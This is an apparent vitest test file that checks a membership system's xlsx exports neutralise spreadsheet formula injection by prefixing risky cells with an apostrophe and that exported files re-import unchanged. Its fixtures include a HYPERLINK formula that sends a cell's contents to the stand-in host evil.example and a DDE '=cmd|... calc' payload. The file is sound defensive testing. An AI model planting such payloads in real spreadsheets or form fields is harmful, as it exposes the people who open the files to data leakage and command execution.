/**
 * Formula injection in the xlsx files we write (issue 25 item 16): text starting with = + - @,
 * a tab or a carriage return gets an apostrophe (OWASP), numbers stay numbers, and an exported
 * file still re-imports to the same values (the reader takes our apostrophe back off).
 */
import { asc, eq } from 'drizzle-orm';
import { beforeAll, describe, expect, it } from 'vitest';
import { workbook } from '../dashboard/xlsx';
import { download, form, readWorkbook, sheetRows, userRow, xlsx, USER_HEADER } from '../imports/fixture';
import { guardCell, unguardCell } from '../lib/formula-guard';
import { makeTestApp, type TestApp } from '../test/harness';
import { insertUser } from '../users/fixture';
import { users } from '../db/tables/users';
import { allRows, runQuery } from '../db/engine';

let t: TestApp;
let org: number;
const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")';

beforeAll(async () => {
  t = await makeTestApp();
  org = await t.createOrg('chi_doan', 'FG-CD', null, '=cmd|" /C calc"!A0');
  await insertUser(t, { code: 'FG001', familyName: EVIL, givenName: '+An', email: 'fg001@sv.vn', phone: '0901234567' }, org);
  await insertUser(t, { code: 'FG002', familyName: '@SUM(1+1)', givenName: '-Bình', email: 'fg002@sv.vn', phone: null }, org);
  await insertUser(t, { code: 'FG003', familyName: '\tTab', givenName: 'Chi', email: 'fg003@sv.vn', phone: null }, org);
});

async function firstSheet(buf: Uint8Array) {
  return sheetRows((await readWorkbook(buf)).worksheets[0]!);
}

describe('formula-looking text in exports', () => {
  it('guardCell prefixes only text that starts with = + - @ tab or CR; numbers, dates and plain text pass unchanged', () => {
    for (const s of ['=1+1', '+84 90', '-x', '@a', '\tx', '\rx']) expect(guardCell(s)).toBe(`'${s}`);
    for (const v of [-5, 0, 12.5, 'Nguyễn', "O'Brien", '', null]) expect(guardCell(v)).toBe(v);
    const d = new Date();
    expect(guardCell(d)).toBe(d);
    expect(unguardCell("'=1+1")).toBe('=1+1');
    expect(unguardCell("O'Brien")).toBe("O'Brien");
    expect(unguardCell("'plain")).toBe("'plain");
  });

  it('the users export writes them as inert text', async () => {
    const exp = await download(t, 'POST', '/api/export/users', t.adminToken, { fields: ['code', 'familyName', 'givenName', 'fullName'] });
    expect(exp.status).toBe(200);
    const rows = await firstSheet(exp.buf);
    const fg1 = rows.find((r) => r[0] === 'FG001')!;
    expect(fg1[1]).toBe(`'${EVIL}`);
    expect(fg1[2]).toBe("'+An");
    expect(String(fg1[3]).startsWith("'=")).toBe(true);
    const fg2 = rows.find((r) => r[0] === 'FG002')!;
    expect(fg2.slice(1, 3)).toEqual(["'@SUM(1+1)", "'-Bình"]);
    expect(rows.find((r) => r[0] === 'FG003')![1]).toBe("'\tTab");
  });

  it('the members export too', async () => {
    const exp = await download(t, 'POST', `/api/export/organizations/${org}/members`, t.adminToken, {
      fields: ['code', 'familyName', 'givenName'],
    });
    expect(exp.status).toBe(200);
    const rows = await firstSheet(exp.buf);
    expect(rows.find((r) => r[0] === 'FG001')!.slice(1)).toEqual([`'${EVIL}`, "'+An"]);
  });

  it('the audit export too (a name typed into a form lands in its snapshots and target)', async () => {
    const created = await t.request('POST', '/api/users', {
      token: t.adminToken,
      body: {
        code: 'FG010',
        familyName: '=1+2',
        givenName: 'An',
        email: 'fg010@sv.vn',
        phone: '0901234567',
        userType: 'student',
        membershipStatus: 'none',
      },
    });
    expect(created.status, JSON.stringify(created.body)).toBe(201);
    const exp = await download(t, 'GET', '/api/audit-logs/export', t.adminToken);
    expect(exp.status).toBe(200);
    const cells = (await firstSheet(exp.buf)).flat().filter((v): v is string => typeof v === 'string');
    expect(cells.some((v) => v.includes('=1+2'))).toBe(true);
    expect(cells.filter((v) => /^[=+\-@\t\r]/.test(v))).toEqual([]);
  });

  it('dashboard workbooks: names guarded, negative figures still numbers', async () => {
    const buf = new Uint8Array(
      await workbook([{ name: 'members', columns: ['name', 'members'], rows: [{ name: '=cmd', members: -3 }] }], 'vi'),
    );
    const rows = await firstSheet(buf);
    expect(rows[1]).toEqual(["'=cmd", -3]);
    const res = await download(t, 'GET', `/api/dashboard/members?organizationId=${org}&format=xlsx`, t.adminToken);
    expect(res.status).toBe(200);
    const wb = await readWorkbook(res.buf);
    const texts = wb.worksheets.flatMap((ws) => sheetRows(ws).flat()).filter((v): v is string => typeof v === 'string');
    expect(texts).toContain('\'=cmd|" /C calc"!A0');
    expect(texts.filter((v) => /^[=+\-@\t\r]/.test(v))).toEqual([]);
  });

  it('error-row files too, and the guarded file re-imports with the values as typed', async () => {
    const up = await t.request('POST', '/api/users/import/upload', {
      token: t.adminToken,
      body: form(await xlsx(USER_HEADER, [userRow({ code: 'FG020', familyName: '=2*3', givenName: 'An', email: 'not-an-email' })])),
    });
    expect(up.status).toBe(201);
    const errs = await download(t, 'GET', `/api/users/import/${up.body.sessionId}/error-rows`, t.adminToken);
    expect(errs.status).toBe(200);
    const rows = await firstSheet(errs.buf);
    expect(rows[1]!.slice(0, 2)).toEqual(['FG020', "'=2*3"]);
    const again = await t.request('POST', '/api/users/import/upload', { token: t.adminToken, body: form(errs.buf, 'errors.xlsx') });
    expect(again.status).toBe(201);
    expect(again.body.previewData[0]).toMatchObject({ code: 'FG020', familyName: '=2*3' });
  });

  it('an exported file round-trips: re-imported with updateExisting, it changes nothing', async () => {
    // FG003's leading tab was written behind the API's back: the forms' and import's text rule trims it, so it is left out.
    await runQuery(t.db.delete(users).where(eq(users.code, 'FG003')));
    const before = await allRows(t.db.select().from(users).orderBy(asc(users.id)));
    const exp = await download(t, 'POST', '/api/export/users', t.adminToken, {
      fields: ['code', 'familyName', 'givenName', 'email', 'phone'],
    });
    const up = await t.request('POST', '/api/users/import/upload', { token: t.adminToken, body: form(exp.buf, 'users_export.xlsx') });
    expect(up.status).toBe(201);
    const ex = await t.request('POST', `/api/users/import/${up.body.sessionId}/execute`, {
      token: t.adminToken,
      body: { options: { updateExisting: true } },
    });
    expect(ex.body, JSON.stringify(ex.body)).toMatchObject({ importedCount: 0, failedCount: 0 });
    expect(await allRows(t.db.select().from(users).orderBy(asc(users.id)))).toEqual(before);
  });
});
